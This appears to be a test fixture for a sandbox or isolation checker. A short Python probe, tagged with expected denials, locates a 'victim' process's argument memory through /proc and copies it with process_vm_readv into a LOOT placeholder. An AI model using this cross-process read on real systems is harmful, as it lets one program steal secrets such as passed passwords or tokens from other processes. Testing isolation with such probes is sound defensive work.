#: {"class": "other-process", "loader": "script", "expect": [["process_vm|open", "."]], "effect": {"loot": "victim"}}
import ctypes
class V(ctypes.Structure): _fields_ = [("b", ctypes.c_void_p), ("n", ctypes.c_size_t)]
m = open("/proc/@VPID@/stat").read().rsplit(")", 1)[1].split(); at, end = int(m[47]), int(m[48])
b = ctypes.create_string_buffer(end - at); x, y = V(ctypes.addressof(b), end - at), V(at, end - at)
ctypes.CDLL(None).process_vm_readv(@VPID@, ctypes.byref(x), 1, ctypes.byref(y), 1, 0); LOOT(b.raw)
